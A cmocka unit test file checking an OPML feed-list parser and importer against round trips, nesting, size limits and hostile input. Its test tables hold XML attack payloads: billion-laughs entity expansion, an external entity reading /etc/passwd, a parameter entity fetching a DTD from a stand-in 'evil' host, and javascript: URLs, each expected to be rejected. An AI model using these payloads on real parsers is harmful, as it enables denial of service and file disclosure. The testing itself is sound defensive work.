/*
 * tests/unit/opml.c - OPML in and out: a round trip of the shipped sources,
 * nested folders, and hostile documents (entities, huge attributes, junk).
 * Run from the repository root (make test does).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "base/buf.h"
#include "base/config.h"
#include "base/xalloc.h"
#include "parse/opml.h"

static int
read_str(const char *s, struct opml_outline **o, size_t *n)
{
    return opml_read(s, strlen(s), o, n);
}

/* True when s is well-formed UTF-8 (enough for these tests). */
static int
utf8_ok(const char *s)
{
    const unsigned char *p = (const unsigned char *)s;

    while (*p) {
        int k = *p < 0x80 ? 1 : *p >= 0xF0 ? 4 : *p >= 0xE0 ? 3 : *p >= 0xC2 ? 2 : 0;

        if (k == 0)
            return 0;
        for (int i = 1; i < k; i++)
            if ((p[i] & 0xC0) != 0x80)
                return 0;
        p += k;
    }
    return 1;
}

static void
check_round_trip(const struct config *c)
{
    struct buf b = BUF_INIT(BUF_MAX_DEFAULT);
    struct opml_outline *o = NULL;
    size_t n = 0;

    assert_int_equal(opml_write(c, &b), ALM_OK);
    assert_int_equal(opml_read(b.data, b.len, &o, &n), ALM_OK);
    assert_int_equal(n, c->nsources);
    for (size_t i = 0; i < c->nsources; i++) {
        const struct source *s = &c->sources[i];
        size_t hits = 0;

        for (size_t j = 0; j < n; j++) {
            if (strcmp(o[j].xml_url, s->feed_url) != 0)
                continue;
            hits++;
            assert_string_equal(o[j].category, s->kind);
            if (utf8_ok(s->name) && strchr(s->name, '\x01') == NULL)
                assert_string_equal(o[j].title, s->name);
            if (s->site_url)
                assert_string_equal(o[j].html_url, s->site_url);
            else
                assert_null(o[j].html_url);
        }
        if (hits != 1)
            fail_msg("%s: %zu outlines for %s", s->slug, hits, s->feed_url);
    }
    opml_outlines_free(o, n);
    buf_fini(&b);
}

static void
test_round_trip_shipped(void **state)
{
    struct config *c = NULL;
    char err[512];

    (void)state;
    if (config_load("etc/almanac.conf", &c, err, sizeof(err)) != ALM_OK)
        fail_msg("%s", err);
    check_round_trip(c);
    config_free(c);
}

/* Names and URLs with everything that needs escaping, built by hand. */
static void
test_round_trip_escaping(void **state)
{
    struct source src[] = {
        { .slug = "a", .name = "A & B <tag> \"quoted\" 'single'",
          .feed_url = "https://a.example/feed?x=1&y=<2>", .site_url = "https://a.example/?q=\"",
          .tier = 1, .kind = "lab" },
        { .slug = "b", .name = "Line\nbreak\tand tab, caf\xC3\xA9, \xF0\x9F\xA4\x96",
          .feed_url = "https://b.example/feed", .tier = 2, .kind = "press" },
        { .slug = "c", .name = "bad \xFF\xFE utf-8 and \x01 control",
          .feed_url = "https://c.example/feed", .tier = 3, .kind = "community" },
        { .slug = "d", .name = "odd kind", .feed_url = "https://d.example/feed",
          .tier = 3, .kind = "mystery" },
    };
    struct config c = { .sources = src, .nsources = 3 };
    struct buf b = BUF_INIT(BUF_MAX_DEFAULT);
    struct buf tiny = BUF_INIT(64);
    struct opml_outline *o = NULL;
    size_t n = 0;

    (void)state;
    check_round_trip(&c);

    /* The unknown kind lands in a folder of its own rather than vanishing. */
    c.nsources = 4;
    assert_int_equal(opml_write(&c, &b), ALM_OK);
    assert_non_null(strstr(b.data, "&amp;"));
    assert_null(strstr(b.data, "\xFF"));
    assert_int_equal(opml_read(b.data, b.len, &o, &n), ALM_OK);
    assert_int_equal(n, 4);
    assert_string_equal(o[3].category, "other");
    assert_string_equal(o[1].title, "Line\nbreak\tand tab, caf\xC3\xA9, \xF0\x9F\xA4\x96");
    assert_true(utf8_ok(o[2].title));
    opml_outlines_free(o, n);
    buf_fini(&b);

    /* A full buffer is an error, not a crash. */
    assert_int_equal(opml_write(&c, &tiny), ALM_ETOOBIG);
    buf_fini(&tiny);
    assert_int_equal(opml_write(NULL, &tiny), ALM_EINVAL);
}

static const char nested[] =
    "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n"
    "<!-- exported by some reader -->\n"
    "<opml version=\"1.0\">\n"
    "<head><title>mine</title></head>\n"
    "<body>\n"
    "  <outline text=\"top\" xmlUrl=\"https://top.example/rss\"/>\n"
    "  <outline text=\"Tech\" title=\"Technology\">\n"
    "    <outline text=\"AI\">\n"
    "      <outline title=\"Deep\" text=\"ignored\" type=\"rss\"\n"
    "               xmlUrl=\"  https://deep.example/feed  \" htmlUrl=\"https://deep.example/\"/>\n"
    "      <outline text=\"Parent feed\" xmlUrl=\"https://parent.example/rss\">\n"
    "        <outline text=\"Child\" xmlUrl=\"https://child.example/rss\"/>\n"
    "      </outline>\n"
    "    </outline>\n"
    "    <outline text=\"Caf\xE9\" xmlurl=\"https://cafe.example/rss\"/>\n"
    "    <outline text=\"no url, no children\"/>\n"
    "    <outline text=\"empty url\" xmlUrl=\"   \"/>\n"
    "  </outline>\n"
    "  <outline xmlUrl=\"https://untitled.example/rss\"/>\n"
    "  <outline><outline text=\"in nameless folder\" XMLURL=\"https://x.example/&amp;a\"/>"
    "</outline>\n"
    "</body>\n"
    "</opml>\n";

static const struct {
    const char *title, *xml_url, *html_url, *category;
} nested_want[] = {
    { "top", "https://top.example/rss", NULL, NULL },
    { "Deep", "https://deep.example/feed", "https://deep.example/", "AI" },
    { "Parent feed", "https://parent.example/rss", NULL, "AI" },
    { "Child", "https://child.example/rss", NULL, "AI" },
    { "Caf\xC3\xA9", "https://cafe.example/rss", NULL, "Technology" },
    { "https://untitled.example/rss", "https://untitled.example/rss", NULL, NULL },
    { "in nameless folder", "https://x.example/&a", NULL, NULL },
};

static void
check_str(const char *got, const char *want, size_t i)
{
    if (want == NULL && got == NULL)
        return;
    if (want == NULL || got == NULL || strcmp(got, want) != 0)
        fail_msg("outline %zu: got \"%s\", want \"%s\"", i, got ? got : "(null)",
                 want ? want : "(null)");
}

static void
test_nested(void **state)
{
    struct opml_outline *o = NULL;
    size_t n = 0;

    (void)state;
    assert_int_equal(read_str(nested, &o, &n), ALM_OK);
    assert_int_equal(n, LEN(nested_want));
    for (size_t i = 0; i < n; i++) {
        check_str(o[i].title, nested_want[i].title, i);
        check_str(o[i].xml_url, nested_want[i].xml_url, i);
        check_str(o[i].html_url, nested_want[i].html_url, i);
        check_str(o[i].category, nested_want[i].category, i);
    }
    opml_outlines_free(o, n);
    opml_outlines_free(NULL, 0);

    /* No feeds at all is fine. */
    o = (struct opml_outline *)1;
    assert_int_equal(read_str("<opml version=\"2.0\"><body/></opml>", &o, &n), ALM_OK);
    assert_int_equal(n, 0);
    assert_null(o);
}

static const struct {
    const char *name;
    const char *text;
    int rc;
} hostile[] = {
    { "billion laughs",
      "<?xml version=\"1.0\"?>\n<!DOCTYPE opml [\n"
      " <!ENTITY a \"aaaaaaaaaa\">\n"
      " <!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">\n"
      " <!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">\n"
      " <!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">\n"
      " <!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">\n"
      " <!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">\n"
      " <!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">\n"
      " <!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\">\n"
      "]>\n<opml><body><outline text=\"&h;\" xmlUrl=\"https://x.example/&h;\"/></body></opml>",
      ALM_EINVAL },
    { "external entity",
      "<?xml version=\"1.0\"?>\n<!DOCTYPE opml [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n"
      "<opml><body><outline text=\"&x;\" xmlUrl=\"https://x.example/\"/></body></opml>",
      ALM_EINVAL },
    { "parameter entity",
      "<?xml version=\"1.0\"?>\n<!DOCTYPE opml [<!ENTITY % p SYSTEM \"http://evil/x.dtd\"> %p;]>"
      "<opml><body/></opml>", ALM_EINVAL },
    { "plain text", "this is not xml at all", ALM_EINVAL },
    { "json", "{\"opml\": [1, 2, 3]}", ALM_EINVAL },
    { "html", "<html><body><outline xmlUrl=\"https://x.example/\"/></body></html>",
      ALM_EINVAL },
    { "rss", "<rss version=\"2.0\"><channel><title>t</title></channel></rss>", ALM_EINVAL },
    { "empty", "", ALM_EINVAL },
    { "only a declaration", "<?xml version=\"1.0\"?>", ALM_EINVAL },
    { "undefined entity, recovered",
      "<opml><body><outline text=\"a&nbsp;b\" xmlUrl=\"https://x.example/\"/></body></opml>",
      ALM_OK },
    { "truncated, recovered",
      "<opml><body><outline text=\"a\" xmlUrl=\"https://x.example/\"/><outline text=\"b",
      ALM_OK },
};

static void
test_hostile(void **state)
{
    (void)state;
    for (size_t i = 0; i < LEN(hostile); i++) {
        struct opml_outline *o = NULL;
        size_t n = 0;
        int rc = read_str(hostile[i].text, &o, &n);

        if (rc != hostile[i].rc)
            fail_msg("%s: got %d, want %d", hostile[i].name, rc, hostile[i].rc);
        if (rc == ALM_OK) {
            assert_true(n >= 1);
            assert_string_equal(o[0].xml_url, "https://x.example/");
        }
        opml_outlines_free(o, n);
    }
    {
        struct opml_outline *o = NULL;
        size_t n = 0;

        assert_int_equal(opml_read(NULL, 5, &o, &n), ALM_EINVAL);
        assert_int_equal(opml_read("<opml/>", 7, NULL, &n), ALM_EINVAL);
    }
}

/* The same entity trick, in UTF-16 so no byte scan can see it. */
static void
test_hostile_utf16(void **state)
{
    const char *ascii = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>"
                        "<!DOCTYPE opml [<!ENTITY a \"aaaa\">]>"
                        "<opml><body><outline text=\"&a;\" xmlUrl=\"https://x.example/\"/>"
                        "</body></opml>";
    size_t len = strlen(ascii);
    char *u16 = xmalloc(2 + 2 * len);
    struct opml_outline *o = NULL;
    size_t n = 0;

    (void)state;
    u16[0] = (char)0xFF;
    u16[1] = (char)0xFE;
    for (size_t i = 0; i < len; i++) {
        u16[2 + 2 * i] = ascii[i];
        u16[3 + 2 * i] = 0;
    }
    assert_int_equal(opml_read(u16, 2 + 2 * len, &o, &n), ALM_EINVAL);
    free(u16);
}

static void
test_huge(void **state)
{
    struct buf b = BUF_INIT(BUF_MAX_DEFAULT);
    struct opml_outline *o = NULL;
    size_t n = 0, big = OPML_MAX_BYTES + 1;
    char *blob;

    (void)state;
    /* Over the input limit: refused before parsing. */
    blob = xmalloc(big);
    memset(blob, ' ', big);
    memcpy(blob, "<opml>", 6);
    assert_int_equal(opml_read(blob, big, &o, &n), ALM_ETOOBIG);
    free(blob);

    /* A 2 MB title is cut at a character boundary; a 100 kB URL is cut and marked. */
    assert_int_equal(buf_puts(&b, "<opml><body><outline title=\"x"), ALM_OK);
    for (size_t i = 0; i < (1u << 20); i++)
        assert_int_equal(buf_puts(&b, "\xC3\xA9"), ALM_OK);
    assert_int_equal(buf_puts(&b, "\" xmlUrl=\"https://long-title.example/\"/>"
                                  "<outline text=\"long url\" xmlUrl=\"https://x.example/"),
                     ALM_OK);
    for (size_t i = 0; i < 100000; i++)
        assert_int_equal(buf_putc(&b, 'a'), ALM_OK);
    assert_int_equal(buf_puts(&b, "\"><outline text=\"kid\" xmlUrl=\"https://kid.example/\"/>"
                                  "</outline></body></opml>"), ALM_OK);
    assert_int_equal(opml_read(b.data, b.len, &o, &n), ALM_OK);
    assert_int_equal(n, 3);
    assert_string_equal(o[0].xml_url, "https://long-title.example/");
    assert_true(strlen(o[0].title) <= OPML_MAX_TEXT);
    assert_true(strlen(o[0].title) >= OPML_MAX_TEXT - 3);
    assert_true(utf8_ok(o[0].title));
    assert_int_equal(o[0].url_too_long, 0);
    assert_int_equal(o[1].url_too_long, 1);
    assert_int_equal(strlen(o[1].xml_url), OPML_MAX_URL);
    assert_string_equal(o[2].xml_url, "https://kid.example/");
    assert_null(o[2].category); /* its parent is a (broken) feed, not a folder */
    opml_outlines_free(o, n);
    buf_reset(&b);

    /* Deep nesting: libxml2 stops at its depth limit; we must not crash or recurse. */
    assert_int_equal(buf_puts(&b, "<opml><body>"), ALM_OK);
    for (size_t i = 0; i < 5000; i++)
        assert_int_equal(buf_printf(&b, "<outline text=\"f%zu\">", i), ALM_OK);
    assert_int_equal(buf_puts(&b, "<outline xmlUrl=\"https://deep.example/\"/>"), ALM_OK);
    for (size_t i = 0; i < 5000; i++)
        assert_int_equal(buf_puts(&b, "</outline>"), ALM_OK);
    assert_int_equal(buf_puts(&b, "</body></opml>"), ALM_OK);
    o = NULL;
    n = 0;
    (void)opml_read(b.data, b.len, &o, &n);
    opml_outlines_free(o, n);
    buf_reset(&b);

    /* More feeds than OPML_MAX_OUTLINES. */
    assert_int_equal(buf_puts(&b, "<opml><body>"), ALM_OK);
    for (size_t i = 0; i <= OPML_MAX_OUTLINES; i++)
        assert_int_equal(buf_printf(&b, "<outline xmlUrl=\"h://%zu\"/>", i), ALM_OK);
    assert_int_equal(buf_puts(&b, "</body></opml>"), ALM_OK);
    o = NULL;
    assert_int_equal(opml_read(b.data, b.len, &o, &n), ALM_ETOOBIG);
    assert_null(o);
    buf_fini(&b);
}

/* One configured source, as the import sees the configuration. */
static const char existing[] = "[source \"news\"]\nname = News\nfeed = https://old.example/feed\n";

/* Loads text as a configuration file (through a temporary file). */
static struct config *
load_text(const char *text)
{
    char path[] = "/tmp/almanac-opml-test.XXXXXX", err[512];
    struct config *c = NULL;
    int fd = mkstemp(path);

    assert_true(fd >= 0);
    assert_int_equal(write(fd, text, strlen(text)), (ssize_t)strlen(text));
    close(fd);
    if (config_load(path, &c, err, sizeof(err)) != ALM_OK)
        fail_msg("the configuration does not load: %s", err);
    unlink(path);
    return c;
}

static const struct opml_import *
find_feed(const struct opml_import *v, size_t n, const char *feed)
{
    for (size_t i = 0; i < n; i++)
        if (strcmp(v[i].feed, feed) == 0)
            return &v[i];
    fail_msg("no decision for %s", feed);
    return NULL;
}

#define URL191 "https://long.example/" \
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" \
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"

/* Every outline that would have written a configuration nothing can load:
 * each is added repaired, skipped as a duplicate or rejected with a
 * reason, and what is written loads back exactly. */
static void
test_import_plan(void **state)
{
    struct buf doc = BUF_INIT(BUF_MAX_DEFAULT), text = BUF_INIT(BUF_MAX_DEFAULT);
    struct config *c = load_text(existing), *after;
    struct opml_outline *o = NULL;
    struct opml_import *v = NULL;
    const struct opml_import *im;
    size_t n = 0, added = 0;

    (void)state;
    assert_int_equal(strlen(URL191), 191);
    assert_int_equal(buf_puts(&doc, "<opml><body>"
        "<outline text=\"News\" xmlUrl=\"https://a.example/feed\"/>"
        "<outline text=\"News\" xmlUrl=\"https://b.example/feed\"/>"
        "<outline text=\"News again\" xmlUrl=\"https://a.example/feed\"/>"
        "<outline text=\"Old\" xmlUrl=\"https://old.example/feed\"/>"
        "<outline text=\"JS\" xmlUrl=\"javascript:alert(1)\"/>"
        "<outline text=\"Data\" xmlUrl=\"data:text/xml,&lt;rss/&gt;\"/>"
        "<outline text=\"File\" xmlUrl=\"file:///etc/passwd\"/>"
        "<outline text=\"FTP\" xmlUrl=\"ftp://f.example/feed\"/>"
        "<outline text=\"Space\" xmlUrl=\"https://s.example/my feed\"/>"
        "<outline text=\"Tab\" xmlUrl=\"https://t.example/a&#9;b\"/>"
        "<outline text=\"NoHost\" xmlUrl=\"https:///feed\"/>"
        "<outline text=\"Fits\" xmlUrl=\"" URL191 "\"/>"
        "<outline text=\"Over\" xmlUrl=\"" URL191 "b\"/>"
        "<outline text=\"CR&#13;LF&#10;TAB&#9;C1&#133;end\" xmlUrl=\"https://c.example/\"/>"
        "<outline text=\"a ; b\" xmlUrl=\"https://semi.example/\"/>"
        "<outline text=\";;lead\" xmlUrl=\"https://lead.example/\"/>"
        "<outline text=\"Bad site\" xmlUrl=\"https://site.example/\""
        " htmlUrl=\"javascript:alert(2)\"/>"
        "<outline text=\"\xE4\xB8\xAD\xE6\x96\x87\" xmlUrl=\"https://zh.example/rss\"/>"
        "<outline text=\"Upper\" xmlUrl=\"HTTPS://UP.example/feed\""
        " htmlUrl=\"https://up.example/\"/>"
        "<outline text=\"Huge\" xmlUrl=\"https://h.example/"), ALM_OK);
    for (size_t i = 0; i < 9000; i++)
        assert_int_equal(buf_putc(&doc, 'h'), ALM_OK);
    assert_int_equal(buf_puts(&doc, "\"/><outline text=\""), ALM_OK);
    for (size_t i = 0; i < 300; i++)
        assert_int_equal(buf_puts(&doc, "\xC3\xA9t\xC3\xA9 "), ALM_OK);
    assert_int_equal(buf_puts(&doc, "\" xmlUrl=\"https://long-title.example/\"/>"
                                    "</body></opml>"), ALM_OK);
    assert_int_equal(opml_read(doc.data, doc.len, &o, &n), ALM_OK);
    assert_int_equal(n, 21);
    assert_int_equal(opml_plan_import(c, o, n, &v), ALM_OK);

    /* one title twice, and the slug of a configured source: unique slugs */
    im = &v[0];
    assert_int_equal(im->verdict, OPML_ADD);
    assert_string_equal(im->slug, "news-2");
    assert_string_equal(v[1].slug, "news-3");
    /* the same URL twice, or one configured: skipped, saying where */
    assert_int_equal(v[2].verdict, OPML_DUPLICATE);
    assert_non_null(strstr(v[2].note, "outline 1"));
    assert_int_equal(v[3].verdict, OPML_DUPLICATE);
    assert_non_null(strstr(v[3].note, "\"news\""));
    /* what a configuration cannot hold: rejected with the reason */
    for (size_t i = 4; i <= 10; i++) {
        assert_int_equal(v[i].verdict, OPML_REJECT);
        assert_true(v[i].note[0] != '\0');
    }
    assert_non_null(strstr(v[6].note, "file:"));
    assert_non_null(strstr(v[8].note, "space"));
    assert_int_equal(v[11].verdict, OPML_ADD); /* 191 bytes fit */
    assert_int_equal(v[12].verdict, OPML_REJECT);
    assert_non_null(strstr(v[12].note, "191"));
    /* repaired: control characters, comments, a bad site */
    im = find_feed(v, n, "https://c.example/");
    assert_int_equal(im->verdict, OPML_ADD);
    assert_string_equal(im->name, "CR LF TAB C1 end");
    assert_non_null(strstr(im->note, "control"));
    assert_string_equal(find_feed(v, n, "https://semi.example/")->name, "a; b");
    assert_string_equal(find_feed(v, n, "https://lead.example/")->name, "lead");
    im = find_feed(v, n, "https://site.example/");
    assert_int_equal(im->verdict, OPML_ADD);
    assert_null(im->site);
    assert_non_null(strstr(im->note, "site URL left out"));
    /* a title with no ASCII letter takes its slug from the host */
    assert_string_equal(find_feed(v, n, "https://zh.example/rss")->slug, "zh-example");
    assert_int_equal(find_feed(v, n, "HTTPS://UP.example/feed")->verdict, OPML_ADD);
    /* a URL over OPML_MAX_URL is named, not lost */
    assert_int_equal(v[19].verdict, OPML_REJECT);
    assert_non_null(strstr(v[19].note, "8192"));
    /* a long title is cut at a character, within a line */
    im = &v[20];
    assert_int_equal(im->verdict, OPML_ADD);
    assert_true(strlen(im->name) <= CONFIG_LINE_MAX - strlen("name = "));
    assert_true(utf8_ok(im->name));
    assert_non_null(strstr(im->name, "\xE2\x80\xA6"));

    /* written after the configuration, it loads, and says what was meant */
    assert_int_equal(buf_puts(&text, existing), ALM_OK);
    assert_int_equal(opml_import_render(v, n, &text), ALM_OK);
    after = load_text(buf_cstr(&text));
    for (size_t i = 0; i < n; i++) {
        const struct source *s;

        if (v[i].verdict != OPML_ADD)
            continue;
        added++;
        s = config_find(after, v[i].slug);
        assert_non_null(s);
        assert_string_equal(s->name, v[i].name);
        assert_string_equal(s->feed_url, v[i].feed);
        if (v[i].site)
            assert_string_equal(s->site_url, v[i].site);
        else
            assert_null(s->site_url);
    }
    assert_int_equal(after->nsources, c->nsources + added);
    config_free(after);
    opml_import_free(v, n);
    opml_outlines_free(o, n);
    config_free(c);
    buf_fini(&doc);
    buf_fini(&text);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_round_trip_shipped),
        cmocka_unit_test(test_round_trip_escaping),
        cmocka_unit_test(test_nested),
        cmocka_unit_test(test_hostile),
        cmocka_unit_test(test_hostile_utf16),
        cmocka_unit_test(test_huge),
        cmocka_unit_test(test_import_plan),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
